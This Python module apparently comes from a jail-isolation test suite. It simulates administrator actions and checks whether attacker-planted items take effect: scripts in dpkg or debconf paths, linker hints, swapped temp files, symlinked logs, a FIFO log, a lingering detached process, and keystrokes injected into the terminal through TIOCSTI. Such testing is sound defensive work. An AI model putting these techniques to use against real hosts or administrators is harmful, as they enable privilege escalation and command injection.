"""What an administrator does in a session, while root of the jail has planted something in t for that.

Each function stands in for the ordinary program and looks where that would: variables of the session first,
then the built-in place. It has worked for the attacker when a planted script ran, a planted library was
loaded, or a file of s is not what the administrator made it.
"""

from __future__ import annotations

import fcntl
import os
import signal
import termios
import time
from collections.abc import Callable

from .frame import Aim, Exploit, Refused, each, libc
from .programs import run

LEFT = b"layout-left"
"""Name of the process that is to outlive the session."""
TYPED = b"typed by the attacker\n"
TEMPORARY = "cc-selftest.s"
_ANSWERS = "/var/cache/debconf/config.dat"
HINTS = "/var/run/ld-elf.so.hints"
_MERGED = "/var/lib/ucf/file"
_PATIENCE = 1.0
"""Seconds for the attacker to change a temporary file, and for a FIFO to be a FIFO."""
_LOADED = "import ctypes; print(open('/proc/self/maps').read())"
_SET_NAME = 15


def ran(aim: Aim, path: str) -> str:
    """Run a script as the administrator's tool would; success is that it was the attacker's."""
    marker = f"{aim.s}/pwned"
    os.stat(path)
    run(aim.interpreter[0], [*aim.interpreter, path])
    if not os.path.exists(marker):
        raise Refused((), "what ran was not the attacker's")
    os.unlink(marker)
    return f"{path} ran, and wrote to s"


def package_script(aim: Aim) -> str:
    """dpkg(1) --remove."""
    return ran(aim, f"{os.environ.get('DPKG_ADMINDIR', '/var/lib/dpkg')}/info/demo.prerm")


def build_options(aim: Aim) -> str:
    """make(1) in a tree of ports includes the options of the last time."""
    return ran(aim, f"{os.environ.get('PORT_DBDIR', '/var/db/ports')}/demo/options")


def answers(aim: Aim) -> str:
    """A package's postinst asks debconf(7)."""
    return ran(aim, _ANSWERS)


def script(aim: Aim) -> str:
    return ran(aim, f"{aim.t}/fix")


def script_in_tmp(aim: Aim) -> str:
    def ran_from(path: str) -> None:
        try:
            ran(aim, path)
        except Refused:
            raise FileNotFoundError(2, "not the attacker's", path) from None

    paths = ("/tmp/fix", "/var/tmp/fix")  # noqa: S108 - of the jail
    return each((path, lambda path=path: ran_from(path)) for path in paths)  # type: ignore[misc]


def linker_hints(aim: Aim) -> str:
    """A loader that believes hints in /var/run, as FreeBSD's does: it looks there first."""
    with open(HINTS, encoding="ascii") as file:
        directory = file.read().strip()
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.dup2(writing, 1)
            words = [*aim.interpreter, "-c", _LOADED]
            os.execve(words[0], words, {"LD_LIBRARY_PATH": directory})  # noqa: S606 - what is tried
        finally:
            os._exit(255)
    os.close(writing)
    with open(reading, encoding="utf-8", errors="replace") as answer:
        loaded = [line for line in answer if f"{directory}/" in line]
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if not loaded:
        raise Refused((), f"nothing of {directory} was loaded, exit status {status}")
    return loaded[0].split()[-1]


def temporary(aim: Aim) -> str:
    """A compiler writes what the assembler reads."""
    path = f"{os.environ.get('TMPDIR', '/tmp')}/{TEMPORARY}"  # noqa: S108 - where it would be
    with open(path, "w", encoding="ascii") as file:
        file.write("honest")
    end = time.monotonic() + _PATIENCE
    try:
        while time.monotonic() < end:
            with open(path, encoding="ascii") as file:
                if file.read() not in {"honest", ""}:
                    return f"{path} is another file now"
            time.sleep(0.01)
    finally:
        os.unlink(path)
    raise Refused((), f"{path} stayed as it was written")


def merge_base(aim: Aim, merged: str = _MERGED) -> str:
    """ucf(1) and etcupdate(8): a file that is as it was delivered is replaced without a question."""
    path = f"{aim.s}/file"
    with open(path, encoding="ascii") as file:
        mine = file.read()
    with open(merged, encoding="ascii") as file:
        delivered = file.read()
    if mine != delivered:
        raise Refused((), "the edit was seen, and kept")
    return f"{path}: the edit is gone"


def link_write(aim: Aim) -> str:
    path, target = "/var/log/link", f"{aim.s}/file"
    with open(target, encoding="ascii") as file:
        before = file.read()
    with open(path, "w", encoding="ascii") as file:
        file.write("the administrator's note\n")
    with open(target, encoding="ascii") as file:
        after = file.read()
    if after == before:
        raise Refused((), "it was written elsewhere")
    with open(target, "w", encoding="ascii") as file:
        file.write(before)
    return f"{path} led to {target}"


def fifo_log(aim: Aim) -> str:
    def waited(*_: object) -> None:
        raise TimeoutError

    signal.signal(signal.SIGALRM, waited)
    signal.setitimer(signal.ITIMER_REAL, _PATIENCE)
    try:
        with open("/var/log/messages", "rb"):
            pass
    except TimeoutError:
        return "/var/log/messages"
    raise Refused((), "reading returned")


def left_behind(aim: Aim) -> str:
    return leave(lambda: libc.prctl(_SET_NAME, LEFT, 0, 0, 0), lambda: time.sleep(60))


def leave(begin: Callable[[], object], stay: Callable[[], object]) -> str:
    """Leave a process that does `stay`, in a session of its own, with nobody above it; first `begin`."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            signal.pthread_sigmask(signal.SIG_BLOCK, (signal.SIGHUP, signal.SIGTERM))
            begin()
            if os.fork() == 0:
                stay()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)  # it has left the group of this attack, which ends with it
    return "a process in a session of its own"


def terminal(aim: Aim) -> str:
    for byte in TYPED:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
    return "ioctl(2) with TIOCSTI"


EXPLOITS: dict[str, Exploit] = {
    "linker-hints": linker_hints,
    "package-script": package_script,
    "build-options": build_options,
    "answers": answers,
    "temporary": temporary,
    "merge-base": merge_base,
    "link-write": link_write,
    "script-in-tmp": script_in_tmp,
    "terminal": terminal,
    "left-behind": left_behind,
    "script": script,
    "fifo-log": fifo_log,
}
